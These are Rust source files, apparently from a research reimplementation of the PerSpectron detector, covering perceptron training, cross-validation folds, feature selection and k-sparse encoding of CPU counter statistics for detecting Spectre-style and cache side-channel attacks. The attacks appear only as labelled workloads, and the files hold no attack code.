    max_matrix: Arc<MaxMatrix>,
    schema: Schema,
    /// Components that never read all-zero in training, with their schema
    /// columns — the live path's dropout watchlist (shared by every
    /// streaming clone).
    always_active: Arc<Vec<(String, Vec<usize>)>>,
}

impl PerSpectron {
    /// Trains a detector end to end on a collected corpus: k-sparse
    /// encoding, feature selection, perceptron training.
    pub fn train(corpus: &CollectedCorpus, _seed: u64) -> Self {
        let dataset = Dataset::from_corpus(corpus, Encoding::KSparse);
        let selection = FeatureSelection::select(&dataset, &SelectionConfig::default());
        Self::train_with_selection(&dataset, selection)
    }

    /// Trains the perceptron over an existing dataset and feature
    /// selection (used by the evaluation harness to share expensive
    /// selection runs).
    pub fn train_with_selection(dataset: &Dataset, selection: FeatureSelection) -> Self {
        let (x, y) = dataset.project(&selection.selected);
        let mut perceptron = Perceptron::new(selection.selected.len());
        // The corpus is imbalanced across attack families: the default 4%
        // early-stop would let the perceptron ignore a small family's
        // cluster entirely (e.g. the eviction-pattern samples). Train to
        // (near) zero error — the paper trains 1000 epochs.
        perceptron.target_error = 0.002;
        perceptron.margin = 2.0;
        perceptron.positive_weight = 3.0;
        perceptron.fit(&x, &y);
        let weight_norm: f64 =
            perceptron.weights().iter().map(|w| w.abs()).sum::<f64>() + perceptron.bias().abs();
        Self {
            selection,
            perceptron,
            threshold: 0.0,
            weight_norm: weight_norm.max(1e-12),
            dataset_blueprint: DatasetBlueprint {
                max_matrix: Arc::new(dataset.max_matrix.clone()),
                schema: dataset.schema.clone(),
                always_active: Arc::new(
                    dataset
                        .always_active_components
                        .iter()
                        .map(|label| {
                            let cols = dataset
                                .schema
                                .names()
                                .iter()
                                .enumerate()
                                .filter(|(_, n)| component_of(n) == label)
                                .map(|(i, _)| i)
                                .collect();
                            (label.clone(), cols)
                        })
                        .collect(),
                ),
            },
            frozen: std::sync::OnceLock::new(),
        }
    }

    /// The selected features.
    pub fn selection(&self) -> &FeatureSelection {
        &self.selection
    }

    /// The trained perceptron (weights are the interpretability story of
    /// §VII-C).
    pub fn perceptron(&self) -> &Perceptron {
        &self.perceptron
    }

    /// Raw (pre-threshold) output for a full-width k-sparse sample row,
    /// normalized to `[-1, 1]` by the weight magnitude — the paper's
    /// confidence measurement.
    ///
    /// The output is always finite: a non-finite input feature (a
    /// corrupted sensor value that bypassed the encoder's sanitization)
    /// contributes nothing instead of propagating NaN into the verdict.
    pub fn confidence(&self, full_row: &[f64]) -> f64 {
        let projected: Vec<f64> = self
            .selection
            .selected
            .iter()
            .map(|&i| {
                let v = full_row[i];
                if v.is_finite() {
                    v
                } else {
                    0.0
                }
            })
            .collect();
        self.normalize_score(self.perceptron.score(&projected))
    }

    /// Normalizes a raw perceptron score to the `[-1, 1]` confidence scale
    /// — the one place both inference paths divide by the weight norm and
    /// clamp non-finite outputs, so their verdicts cannot drift apart.
    pub(crate) fn normalize_score(&self, raw: f64) -> f64 {
        let score = raw / self.weight_norm;
        if score.is_finite() {
            score
        } else {
            0.0
        }
    }

    /// Classifies one full-width sample row: suspicious when the
    /// normalized output exceeds the threshold.
    pub fn is_suspicious(&self, full_row: &[f64]) -> bool {
        self.confidence(full_row) >= self.threshold
    }

    /// The reference maxima the detector encodes unseen samples with.
    pub fn max_matrix(&self) -> &Arc<MaxMatrix> {
        &self.dataset_blueprint.max_matrix
    }

    /// The statistic schema the detector was trained against (column
    /// names of the full input row).
    pub fn schema(&self) -> &Schema {
        &self.dataset_blueprint.schema
    }

    /// Components that never read all-zero during training, each with its
    /// schema columns — the sensors whose silence at deployment time
    /// means dropout, not idleness.
    pub(crate) fn always_active_components(&self) -> Arc<Vec<(String, Vec<usize>)>> {
        Arc::clone(&self.dataset_blueprint.always_active)
    }

    /// A per-sample k-sparse encoder over the full statistic space, backed
    /// by the training-time maxima.
    pub fn input_encoder(&self) -> RowEncoder {
        RowEncoder::new(self.dataset_blueprint.max_matrix.clone(), Encoding::KSparse)
    }

    /// A packed-row encoder projected straight down to the selected
    /// features: raw rows come in, [`BitRow`]s as wide as the perceptron
    /// come out, with masked lanes recorded in the validity plane.
    pub fn packed_encoder(&self) -> RowEncoder {
        self.input_encoder()
            .with_projection(self.selection.selected.clone())
    }

    /// The trained perceptron frozen into its bit-packed inference form
    /// (exact sparse scorer plus the quantized popcount planes). Built
    /// once, lazily; subsequent calls return the cached freeze.
    pub fn packed_perceptron(&self) -> &PackedPerceptron {
        self.frozen
            .get_or_init(|| PackedPerceptron::from_perceptron(&self.perceptron))
    }

    /// An online, per-interval detector sharing this detector's weights
    /// and encoding — plug it into a [`uarch_stats::SampleSink`] producer
    /// (e.g. [`sim_cpu::Core::run_with_sink`]) to score every sampling
    /// window the moment it closes.
    pub fn streaming(&self) -> StreamingDetector {
        StreamingDetector::new(self)
    }

    /// Like [`PerSpectron::streaming`] but scoring through the bit-packed
    /// batched fast path. Verdicts are bit-identical to the scalar sink;
    /// callers must invoke [`StreamingDetector::flush`] once the stream
    /// ends so the final partial batch is scored.
    pub fn streaming_packed(&self) -> StreamingDetector {
        StreamingDetector::with_path(self, InferencePath::Packed)
    }

    /// Per-sample confidences over an unseen trace (encoded with the
    /// training-time max matrix). This is the y-axis of Figures 3 and 4.
    pub fn confidence_series(&self, trace: &LabeledTrace) -> Vec<f64> {
        let encoder = self.input_encoder();
        let mut buf = Vec::with_capacity(encoder.width());
        trace
            .trace
            .rows()
            .enumerate()
            .map(|(j, row)| {
                encoder.encode_into(row, j, &mut buf);
                self.confidence(&buf)
            })
            .collect()
    }

    /// Per-sample confidences over an unseen trace through a chosen
    /// inference path. The `Scalar` arm is exactly
    /// [`PerSpectron::confidence_series`]; the `Packed` arm encodes every
    /// row into a [`PackedRows`] batch and scores it in one sweep — the
    /// results are bit-identical.
    pub fn confidence_series_via(&self, trace: &LabeledTrace, path: InferencePath) -> Vec<f64> {
        match path {
            InferencePath::Scalar => self.confidence_series(trace),
            InferencePath::Packed => {
                let encoder = self.packed_encoder();
                let engine = self.packed_perceptron();
                let mut row = BitRow::zeros(encoder.width());
                let mut batch = PackedRows::new(encoder.width());
                for (j, raw) in trace.trace.rows().enumerate() {
                    encoder.encode_bits_into(raw, j, &mut row);
                    batch.push(&row).expect("encoder and batch widths agree");
                }
                let mut scores = Vec::new();
                engine.score_rows(&batch, &mut scores);
                scores.iter().map(|&s| self.normalize_score(s)).collect()
            }
        }
    }

    /// Evaluates on a corpus at the configured threshold.
    pub fn evaluate(&self, corpus: &CollectedCorpus) -> DetectionReport {
        self.evaluate_via(corpus, InferencePath::Scalar)
    }

    /// Evaluates on a corpus at the configured threshold, scoring through
    /// the chosen inference path (reports are identical for both).
    pub fn evaluate_via(&self, corpus: &CollectedCorpus, path: InferencePath) -> DetectionReport {
        let mut predicted = Vec::new();
        let mut truth = Vec::new();
        let mut fp = std::collections::BTreeSet::new();
        let mut fneg = std::collections::BTreeSet::new();
        for t in &corpus.traces {
            let label = if t.class == workloads::Class::Malicious {
                1i8
            } else {
                -1
            };
            for c in self.confidence_series_via(t, path) {
                let p = if c >= self.threshold { 1i8 } else { -1 };
                predicted.push(p);
                truth.push(label);
                if p > 0 && label < 0 {
                    fp.insert(t.name.clone());
                }
                if p < 0 && label > 0 {
                    fneg.insert(t.name.clone());
                }
            }
        }
        DetectionReport {
            confusion: confusion(&predicted, &truth),
            false_positive_workloads: fp.into_iter().collect(),
            false_negative_workloads: fneg.into_iter().collect(),
        }
    }

    /// The hardware cost of this detector (Table IV's "low" complexity).
    pub fn hardware_cost(&self) -> HardwareCost {
        HardwareCost::perceptron(
            self.selection.selected.len(),
            self.dataset_blueprint.max_matrix.sample_points(),
        )
    }

    /// Quantizes the learned weights to signed 8-bit integers — the
    /// representation the hardware tables would hold (perceptron branch
    /// predictors use 8-bit weights; §IV-G1's vendor patches ship these).
    /// Returns `(weights, bias, scale)` with `float ≈ int × scale`.
    pub fn quantized_weights(&self) -> (Vec<i8>, i8, f64) {
        let engine = self.packed_perceptron();
        let (q, b, scale) = engine.quantized();
        (q.to_vec(), b, scale)
    }

    /// Hardware-style inference: the sequential adder over 8-bit quantized
    /// weights, exactly as the silicon would compute it (add the weight
    /// when the input bit is 1, then take the sign).
    pub fn is_suspicious_quantized(&self, full_row: &[f64]) -> bool {
        let (weights, bias, _) = self.quantized_weights();
        let mut acc: i32 = bias as i32;
        for (&i, &w) in self.selection.selected.iter().zip(&weights) {
            if full_row[i] > 0.5 {
                acc += w as i32;
            }
        }
        acc >= 0
    }

    /// Weights grouped by pipeline component, each sorted by magnitude —
    /// the §VII-C interpretability view.
    pub fn explain(&self) -> Vec<(String, Vec<(String, f64)>)> {
        let mut by_comp: std::collections::BTreeMap<String, Vec<(String, f64)>> =
            std::collections::BTreeMap::new();
        for (name, &w) in self.selection.names.iter().zip(self.perceptron.weights()) {
            by_comp
                .entry(component_of(name).to_string())
                .or_default()
                .push((name.clone(), w));
        }
        for list in by_comp.values_mut() {
            list.sort_by(|a, b| b.1.abs().partial_cmp(&a.1.abs()).expect("no NaN"));
        }
        by_comp.into_iter().collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::trace::CorpusSpec;

    fn mini_corpus() -> &'static CollectedCorpus {
        static CORPUS: std::sync::OnceLock<CollectedCorpus> = std::sync::OnceLock::new();
        CORPUS.get_or_init(build_mini_corpus)
    }

    fn trained() -> &'static PerSpectron {
        static DET: std::sync::OnceLock<PerSpectron> = std::sync::OnceLock::new();
        DET.get_or_init(|| PerSpectron::train(mini_corpus(), 1))
    }

    fn build_mini_corpus() -> CollectedCorpus {
        let mut all = workloads::full_suite();
        all.retain(|w| {
            [
                "spectre-v1-classic",
                "meltdown",
                "flush-flush",
                "prime-probe",
                "bzip2",
                "povray",
                "sjeng",
                "mcf",
            ]
            .contains(&w.name.as_str())
        });
        CorpusSpec {
            insts_per_workload: 150_000,
            sample_interval: 10_000,
            workloads: all,
        }
        .collect()
    }

    #[test]
    fn trains_and_separates_a_mini_corpus() {
        let corpus = mini_corpus();
        let det = trained();
        let report = det.evaluate(corpus);
        assert!(
            report.confusion.accuracy() > 0.9,
            "training-set accuracy should be high, got {}",
            report.confusion.accuracy()
        );
        assert!(report.confusion.recall() > 0.8);
    }

    #[test]
    fn confidence_is_bounded_and_higher_for_attacks() {
        let corpus = mini_corpus();
        let det = trained();
        let mut attack_mean = 0.0;
        let mut benign_mean = 0.0;
        let (mut na, mut nb) = (0, 0);
        for t in &corpus.traces {
            for c in det.confidence_series(t) {
                assert!((-1.0..=1.0).contains(&c), "confidence {c} out of range");
                if t.class == workloads::Class::Malicious {
                    attack_mean += c;
                    na += 1;
                } else {
                    benign_mean += c;
                    nb += 1;
                }
            }
        }
        attack_mean /= na as f64;
        benign_mean /= nb as f64;
        assert!(attack_mean > benign_mean);
    }

    #[test]
    fn quantized_inference_matches_float_inference() {
        let corpus = mini_corpus();
        let det = trained();
        let (q, _, scale) = det.quantized_weights();
        assert!(q.iter().any(|&w| w != 0), "weights survive quantization");
        assert!(scale > 0.0);
        let mut agree = 0usize;
        let mut total = 0usize;
        let ds = crate::dataset::Dataset::from_corpus(corpus, Encoding::KSparse);
        for s in &ds.samples {
            let f = det.is_suspicious(&s.x);
            let h = det.is_suspicious_quantized(&s.x);
            total += 1;
            if f == h {
                agree += 1;
            }
        }
        assert!(
            agree as f64 / total as f64 > 0.97,
            "8-bit weights must preserve decisions: {agree}/{total}"
        );
    }

    #[test]
    fn explanation_spans_components_with_signed_weights() {
        let det = trained();
        let explained = det.explain();
        assert!(explained.len() >= 5, "weights should span components");
        let any_positive = explained
            .iter()
            .flat_map(|(_, ws)| ws)
            .any(|&(_, w)| w > 0.0);
        assert!(any_positive, "suspicious features carry positive weights");
    }
}
