//! Cross-validation fold definitions (the paper's Table III) and split
//! machinery.

use mlkit::GroupSplit;
use workloads::Family;

use crate::dataset::Dataset;
use crate::trace::CollectedCorpus;

/// One cross-validation fold: whole attack families (and a slice of the
/// benign programs) are held out of training.
#[derive(Debug, Clone)]
pub struct FoldSpec {
    /// Fold number (1-based, as in Table III).
    pub k: usize,
    /// Attack families in the test set `D_k`.
    pub held_out_families: Vec<Family>,
    /// Benign workload names held out with them (class proportions kept
    /// roughly equal per fold).
    pub held_out_benign: Vec<&'static str>,
}

/// The paper's Table III folds: at each fold, one version of each attack
/// category is excluded from training, and the model must detect it cold.
/// SpectreV2 and CacheOut are excluded from every training set.
pub fn paper_folds() -> Vec<FoldSpec> {
    vec![
        FoldSpec {
            k: 1,
            held_out_families: vec![
                Family::SpectreRsb,
                Family::SpectreV2,
                Family::CacheOut,
                Family::BreakingKslr,
                Family::PrimeProbe,
            ],
            held_out_benign: vec!["bzip2", "gcc", "mcf", "hmmer"],
        },
        FoldSpec {
            k: 2,
            held_out_families: vec![
                Family::SpectreV1,
                Family::SpectreV2,
                Family::CacheOut,
                Family::FlushReload,
            ],
            held_out_benign: vec!["sjeng", "gobmk", "libquantum", "h264ref"],
        },
        FoldSpec {
            k: 3,
            held_out_families: vec![
                Family::SpectreV2,
                Family::CacheOut,
                Family::Meltdown,
                Family::BreakingKslr,
                Family::FlushFlush,
            ],
            held_out_benign: vec!["astar", "omnetpp", "povray", "dealII", "perlbench"],
        },
    ]
}

impl FoldSpec {
    /// Splits a dataset built over `corpus` into train/test sample index
    /// sets according to this fold.
    pub fn split(&self, corpus: &CollectedCorpus, dataset: &Dataset) -> GroupSplit {
        let held_out_workloads: Vec<usize> = corpus
            .traces
            .iter()
            .enumerate()
            .filter(|(_, t)| {
                (t.family != Family::Benign && self.held_out_families.contains(&t.family))
                    || self.held_out_benign.contains(&t.name.as_str())
            })
            .map(|(i, _)| i)
            .collect();
        GroupSplit::by_held_out_groups(&dataset.groups(), &held_out_workloads)
    }

    /// Renders the fold as a Table III row.
    pub fn describe(&self, corpus: &CollectedCorpus) -> String {
        let dk: Vec<&str> = self.held_out_families.iter().map(|f| f.label()).collect();
        let dmk: Vec<&str> = {
            let mut fams: Vec<Family> = corpus
                .traces
                .iter()
                .filter(|t| t.family != Family::Benign)
                .map(|t| t.family)
                .collect();
            fams.sort_by_key(|f| f.label());
            fams.dedup();
            fams.retain(|f| !self.held_out_families.contains(f) && *f != Family::Calibration);
            fams.iter().map(|f| f.label()).collect()
        };
        format!(
            "{} | D_k: {} | D_-k: {}",
            self.k,
            dk.join(", "),
            dmk.join(", ")
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dataset::Encoding;
    use crate::trace::CorpusSpec;

    #[test]
    fn folds_match_table_iii_families() {
        let folds = paper_folds();
        assert_eq!(folds.len(), 3);
        // SpectreV2 and CacheOut held out of every fold's training set.
        for f in &folds {
            assert!(f.held_out_families.contains(&Family::SpectreV2));
            assert!(f.held_out_families.contains(&Family::CacheOut));
        }
        // Fold 1 holds out spectreRSB, breakingKSLR, prime+probe.
        assert!(folds[0].held_out_families.contains(&Family::SpectreRsb));
        assert!(folds[0].held_out_families.contains(&Family::PrimeProbe));
        // Fold 2 holds out spectreV1 and flush+reload.
        assert!(folds[1].held_out_families.contains(&Family::SpectreV1));
        assert!(folds[1].held_out_families.contains(&Family::FlushReload));
        // Fold 3 holds out meltdown and flush+flush.
        assert!(folds[2].held_out_families.contains(&Family::Meltdown));
        assert!(folds[2].held_out_families.contains(&Family::FlushFlush));
    }

    #[test]
    fn split_keeps_held_out_families_out_of_training() {
        let mut all = workloads::full_suite();
        all.retain(|w| {
            ["spectre-v1-classic", "spectre-rsb", "bzip2", "sjeng"].contains(&w.name.as_str())
        });
        let corpus = CorpusSpec {
            insts_per_workload: 60_000,
            sample_interval: 10_000,
            workloads: all,
        }
        .collect();
        let dataset = Dataset::from_corpus(&corpus, Encoding::KSparse);
        let fold = &paper_folds()[0]; // holds out spectreRSB + bzip2-family benign
        let split = fold.split(&corpus, &dataset);
        assert!(!split.train.is_empty() && !split.test.is_empty());
        for &i in &split.train {
            let s = &dataset.samples[i];
            assert_ne!(
                s.family,
                Family::SpectreRsb,
                "held-out family leaked into train"
            );
            assert_ne!(corpus.traces[s.workload].name, "bzip2");
        }
        for &i in &split.test {
            let s = &dataset.samples[i];
            assert!(s.family == Family::SpectreRsb || corpus.traces[s.workload].name == "bzip2");
        }
    }

    #[test]
    fn describe_renders_table_rows() {
        let corpus = CorpusSpec {
            insts_per_workload: 0,
            sample_interval: 10_000,
            workloads: workloads::full_suite(),
        };
        // Build a corpus shell without running: zero instructions still
        // produces empty traces with correct labels.
        let collected = corpus.collect();
        let row = paper_folds()[0].describe(&collected);
        assert!(row.contains("spectreRSB"));
        assert!(row.contains("D_-k"));
    }
}
