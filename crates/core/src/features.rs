//! Feature selection: correlation grouping and replicated invariant
//! feature extraction (§IV-B of the paper).

use mlkit::corr::pearson;

use crate::dataset::Dataset;

/// The pipeline component a statistic belongs to, derived from its dotted
/// name prefix (the paper partitions the 1159 statistics into 17
/// components). Resolution delegates to the shared
/// [`ComponentRegistry`](uarch_stats::ComponentRegistry), so feature
/// grouping, stat registration and the analysis lints all agree on the
/// taxonomy.
pub fn component_of(name: &str) -> &str {
    uarch_stats::ComponentRegistry::label_of(name)
}

/// The component *bank* a statistic belongs to for selection purposes:
/// the legacy component label, qualified by its `core<N>.` scope in a
/// multi-core schema (`core1.fetch.SquashCycles` → `"core1.fetch"`). On a
/// flat single-core schema this is exactly [`component_of`], so the
/// classic selection is unchanged; on a namespaced schema the attacker
/// core and each victim/neighbor core keep their own feature banks
/// instead of collapsing into one.
pub fn bank_of(name: &str) -> String {
    uarch_stats::ComponentRegistry::scoped_label_of(name)
}

/// Mutual information (in bits) between a binarized feature column and the
/// binary class label.
pub fn binary_mutual_information(col: &[f64], y: &[i8]) -> f64 {
    assert_eq!(col.len(), y.len(), "length mismatch");
    let n = col.len() as f64;
    if col.is_empty() {
        return 0.0;
    }
    let mut joint = [[0.0f64; 2]; 2];
    for (&v, &l) in col.iter().zip(y) {
        let a = usize::from(v > 0.5);
        let b = usize::from(l > 0);
        joint[a][b] += 1.0;
    }
    let pa = [
        (joint[0][0] + joint[0][1]) / n,
        (joint[1][0] + joint[1][1]) / n,
    ];
    let pb = [
        (joint[0][0] + joint[1][0]) / n,
        (joint[0][1] + joint[1][1]) / n,
    ];
    let mut mi = 0.0;
    for a in 0..2 {
        for b in 0..2 {
            let pab = joint[a][b] / n;
            if pab > 0.0 && pa[a] > 0.0 && pb[b] > 0.0 {
                mi += pab * (pab / (pa[a] * pb[b])).log2();
            }
        }
    }
    mi
}

/// Selection parameters.
#[derive(Debug, Clone)]
pub struct SelectionConfig {
    /// Number of features to select (the paper selects 106).
    pub target_count: usize,
    /// |Pearson| threshold above which two features are "closely
    /// correlated" (the paper uses 0.98).
    pub correlation_threshold: f64,
    /// Discard features whose class relevance is below this floor.
    pub min_relevance: f64,
}

impl Default for SelectionConfig {
    fn default() -> Self {
        Self {
            target_count: 106,
            correlation_threshold: 0.98,
            min_relevance: 1e-4,
        }
    }
}

/// One group of mutually correlated features.
#[derive(Debug, Clone)]
pub struct CorrelationGroup {
    /// Feature indices, sorted by class relevance (descending).
    pub members: Vec<usize>,
    /// Number of distinct pipeline components the members span.
    pub component_span: usize,
    /// Best class relevance among members.
    pub relevance: f64,
}

/// The outcome of the selection procedure.
#[derive(Debug, Clone)]
pub struct FeatureSelection {
    /// Selected feature indices into the full schema.
    pub selected: Vec<usize>,
    /// Selected feature names.
    pub names: Vec<String>,
    /// All correlation groups found (spanning ≥ 2 members).
    pub groups: Vec<CorrelationGroup>,
    /// Class relevance (mutual information) per schema feature.
    pub relevance: Vec<f64>,
}

impl FeatureSelection {
    /// Runs the three-step selection of §IV-B on a dataset:
    ///
    /// 1. Pearson-correlate live features pairwise and group those with
    ///    |c| above the threshold.
    /// 2. Decorrelate *within* a component (keep one member per group per
    ///    component) while deliberately keeping cross-component replicas.
    /// 3. Greedily pick features component by component, ranked by mutual
    ///    information with the class, until `target_count` are chosen.
    pub fn select(dataset: &Dataset, cfg: &SelectionConfig) -> Self {
        let n_features = dataset.schema.len();
        let y = dataset.y();

        // Class relevance per feature; dead (constant) features get zero.
        let columns: Vec<Vec<f64>> = (0..n_features).map(|i| dataset.column(i)).collect();
        let relevance: Vec<f64> = columns
            .iter()
            .map(|c| binary_mutual_information(c, &y))
            .collect();

        // Live features only (non-constant, minimally relevant).
        let live: Vec<usize> = (0..n_features)
            .filter(|&i| {
                let first = columns[i][0];
                relevance[i] >= cfg.min_relevance && columns[i].iter().any(|&v| v != first)
            })
            .collect();

        // Union-find over strongly correlated live features.
        let mut parent: Vec<usize> = (0..n_features).collect();
        fn find(parent: &mut Vec<usize>, i: usize) -> usize {
            if parent[i] != i {
                let root = find(parent, parent[i]);
                parent[i] = root;
            }
            parent[i]
        }
        for (a_pos, &i) in live.iter().enumerate() {
            for &j in &live[a_pos + 1..] {
                let c = pearson(&columns[i], &columns[j]);
                if c.abs() >= cfg.correlation_threshold {
                    let (ri, rj) = (find(&mut parent, i), find(&mut parent, j));
                    if ri != rj {
                        parent[rj] = ri;
                    }
                }
            }
        }

        // Materialize groups.
        let mut by_root: std::collections::HashMap<usize, Vec<usize>> =
            std::collections::HashMap::new();
        for &i in &live {
            by_root.entry(find(&mut parent, i)).or_default().push(i);
        }
        let mut groups: Vec<CorrelationGroup> = by_root
            .into_values()
            .filter(|m| m.len() >= 2)
            .map(|mut members| {
                members.sort_by(|&a, &b| relevance[b].partial_cmp(&relevance[a]).expect("no NaN"));
                let span = members
                    .iter()
                    .map(|&i| bank_of(dataset.schema.name(i)))
                    .collect::<std::collections::HashSet<_>>()
                    .len();
                let best = relevance[members[0]];
                CorrelationGroup {
                    members,
                    component_span: span,
                    relevance: best,
                }
            })
            .collect();
        groups.sort_by(|a, b| b.relevance.partial_cmp(&a.relevance).expect("no NaN"));

        // Greedy per-component round-robin selection.
        let group_of: std::collections::HashMap<usize, usize> = groups
            .iter()
            .enumerate()
            .flat_map(|(g, grp)| grp.members.iter().map(move |&m| (m, g)))
            .collect();
        // One bank per component — per core scope in a multi-core schema
        // (`core0.fetch` and `core1.fetch` select independently).
        let mut per_component: std::collections::BTreeMap<String, Vec<usize>> =
            std::collections::BTreeMap::new();
        for &i in &live {
            per_component
                .entry(bank_of(dataset.schema.name(i)))
                .or_default()
                .push(i);
        }
        for list in per_component.values_mut() {
            list.sort_by(|&a, &b| relevance[b].partial_cmp(&relevance[a]).expect("no NaN"));
        }

        let mut selected = Vec::new();
        let mut used_groups_per_component: std::collections::HashSet<(String, usize)> =
            std::collections::HashSet::new();
        let mut cursors: std::collections::BTreeMap<String, usize> =
            per_component.keys().map(|k| (k.clone(), 0usize)).collect();
        while selected.len() < cfg.target_count {
            let mut progressed = false;
            for (comp, list) in &per_component {
                if selected.len() >= cfg.target_count {
                    break;
                }
                let cursor = cursors.get_mut(comp).expect("cursor exists");
                while *cursor < list.len() {
                    let cand = list[*cursor];
                    *cursor += 1;
                    // Within a component, keep only one member per
                    // correlation group (decorrelation); cross-component
                    // replicas stay (the replicated-detector premise).
                    let dedup_key = group_of.get(&cand).map(|&g| (comp.clone(), g));
                    if let Some(key) = &dedup_key {
                        if used_groups_per_component.contains(key) {
                            continue;
                        }
                    }
                    if let Some(key) = dedup_key {
                        used_groups_per_component.insert(key);
                    }
                    selected.push(cand);
                    progressed = true;
                    break;
                }
            }
            if !progressed {
                break; // all components exhausted
            }
        }
        selected.sort_unstable();

        let names = selected
            .iter()
            .map(|&i| dataset.schema.name(i).to_string())
            .collect();
        Self {
            selected,
            names,
            groups,
            relevance,
        }
    }

    /// A per-sample encoder projecting raw delta rows onto the selected
    /// features — the same shared normalization/binarization helper the MAP
    /// view uses (see [`crate::map_features::map_encoder`]), so every view
    /// encodes samples identically.
    pub fn encoder(
        &self,
        max: std::sync::Arc<crate::encode::MaxMatrix>,
        encoding: crate::encode::Encoding,
    ) -> crate::encode::RowEncoder {
        crate::encode::RowEncoder::new(max, encoding).with_projection(self.selected.clone())
    }

    /// Groups spanning at least `min_span` components, most relevant first
    /// (the Table I view).
    pub fn replicated_groups(&self, min_span: usize) -> Vec<&CorrelationGroup> {
        self.groups
            .iter()
            .filter(|g| g.component_span >= min_span)
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dataset::{Dataset, Encoding};
    use crate::trace::CorpusSpec;

    #[test]
    fn component_mapping_matches_paper_prefixes() {
        assert_eq!(component_of("fetch.SquashCycles"), "fetch");
        assert_eq!(component_of("iew.lsq.thread0.forwLoads"), "iew");
        assert_eq!(component_of("dtlb.rdMisses"), "dtb");
        assert_eq!(component_of("dtb.rdMisses"), "dtb");
        assert_eq!(component_of("numCycles"), "cpu");
        assert_eq!(component_of("tol2bus.trans_dist::CleanEvict"), "tol2bus");
    }

    #[test]
    fn mutual_information_of_perfect_predictor_is_one_bit() {
        let col = vec![0.0, 0.0, 1.0, 1.0];
        let y = vec![-1, -1, 1, 1];
        assert!((binary_mutual_information(&col, &y) - 1.0).abs() < 1e-9);
    }

    #[test]
    fn mutual_information_of_independent_feature_is_zero() {
        let col = vec![0.0, 1.0, 0.0, 1.0];
        let y = vec![-1, -1, 1, 1];
        assert!(binary_mutual_information(&col, &y).abs() < 1e-9);
    }

    #[test]
    fn selection_picks_discriminative_cross_component_features() {
        let mut all = workloads::full_suite();
        all.retain(|w| {
            ["spectre-v1-classic", "flush-flush", "bzip2", "povray"].contains(&w.name.as_str())
        });
        let corpus = CorpusSpec {
            insts_per_workload: 100_000,
            sample_interval: 10_000,
            workloads: all,
        }
        .collect();
        let dataset = Dataset::from_corpus(&corpus, Encoding::KSparse);
        let sel = FeatureSelection::select(&dataset, &SelectionConfig::default());
        assert!(
            sel.selected.len() >= 50,
            "expected a healthy selection, got {}",
            sel.selected.len()
        );
        assert!(sel.selected.len() <= 106);
        // Replication: selected features span many components.
        let comps: std::collections::HashSet<_> =
            sel.names.iter().map(|n| component_of(n)).collect();
        assert!(
            comps.len() >= 8,
            "selection should span components, got {comps:?}"
        );
        // There are cross-component correlation groups (Table I's premise).
        assert!(
            !sel.replicated_groups(2).is_empty(),
            "squash-family features must correlate across components"
        );
        // Dead-feature lint: every selected feature must exist in the
        // schema and resolve to a registered component. Components with no
        // consumed feature are tolerable on this 4-workload mini corpus,
        // but dangling or unresolvable consumed names never are.
        let issues = uarch_analysis::lint_feature_consumption(dataset.schema.names(), &sel.names);
        let hard: Vec<_> = issues
            .iter()
            .filter(|i| !i.issue.contains("never consumed"))
            .collect();
        assert!(hard.is_empty(), "selected features must bind: {hard:?}");
    }
}
