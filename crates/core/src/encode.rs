//! The paper's hardware-friendly input representation: per-sampling-point
//! maxima (matrix *M*) and k-sparse 0/1 binarization.
//!
//! All per-sample scaling/binarization funnels through one helper,
//! [`RowEncoder`]: every feature view (the full 1159-statistic space, the
//! selected replicated-invariant subset, the committed-state MAP baseline)
//! is the same encoder with a different projection, both in batch dataset
//! construction and in the streaming per-interval path.

use std::sync::Arc;

use mlkit::BitRow;

use crate::trace::CollectedCorpus;

/// How samples encode feature values.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Encoding {
    /// Max-normalized continuous values in `[0, 1]`.
    Normalized,
    /// The paper's k-sparse 0/1 representation.
    KSparse,
}

/// The matrix *M* of §IV-C: `M[i][j]` is the maximum observed value of
/// counter `i` at execution (sampling) point `j` across the reference
/// corpus. Scaled statistic = value / M\[i\]\[j\]; the k-sparse bit is 1
/// when the scaled statistic exceeds 0.5.
#[derive(Debug, Clone)]
pub struct MaxMatrix {
    /// max\[feature\]\[sample_index\]
    maxima: Vec<Vec<f64>>,
    /// Global per-feature maxima (fallback past the last stored column).
    global: Vec<f64>,
}

/// Scales one raw counter delta against its reference maximum and applies
/// the encoding: the single place the normalize/binarize arithmetic lives.
///
/// Non-finite inputs (a corrupted sensor reading) encode as 0 — a masked
/// feature — never as NaN leaking into the model; a non-finite or
/// subnormal maximum likewise masks the feature, since dividing by it
/// would produce garbage (or an effectively-infinite scale).
#[inline]
fn encode_value(max: f64, value: f64, encoding: Encoding) -> f64 {
    let scaled = if lane_masked(max, value) {
        0.0
    } else {
        (value.abs() / max).min(1.0)
    };
    match encoding {
        Encoding::Normalized => scaled,
        Encoding::KSparse => {
            if scaled > 0.5 {
                1.0
            } else {
                0.0
            }
        }
    }
}

/// Whether a raw stat value needs sanitizing before it can be scored
/// (non-finite: NaN or ±∞ from a corrupted sensor).
#[inline]
pub(crate) fn needs_sanitizing(value: f64) -> bool {
    !value.is_finite()
}

/// Whether a lane must be masked during encoding: the single source of
/// truth for both the scalar path (which encodes the lane as 0.0) and the
/// packed path (which additionally clears the lane's validity bit). A
/// lane is masked when its raw value is non-finite (a corrupted sensor
/// reading) or its reference maximum is non-finite or subnormal (dividing
/// by it would produce garbage or an effectively-infinite scale).
#[inline]
pub(crate) fn lane_masked(max: f64, value: f64) -> bool {
    max < f64::MIN_POSITIVE || !max.is_finite() || needs_sanitizing(value)
}

/// Sanitizes one raw sensor row: returns the row to score (borrowed
/// unchanged when clean — the overwhelmingly common case — or rebuilt in
/// `scratch` with non-finite values masked to zero) plus the count of
/// values that needed masking.
///
/// This is the one raw-row sanitization helper shared by the scalar and
/// packed streaming paths, so the `Degraded::sanitized_values` accounting
/// can never drift between them.
pub(crate) fn sanitize_row<'a>(row: &'a [f64], scratch: &'a mut Vec<f64>) -> (&'a [f64], usize) {
    let sanitized = row.iter().filter(|v| needs_sanitizing(**v)).count();
    if sanitized == 0 {
        (row, 0)
    } else {
        scratch.clear();
        scratch.extend(row.iter().map(|&v| if v.is_finite() { v } else { 0.0 }));
        (scratch, sanitized)
    }
}

/// Schema indices of the feature slice a detector attached to `core`
/// observes in a (possibly multi-core) schema: the core's own
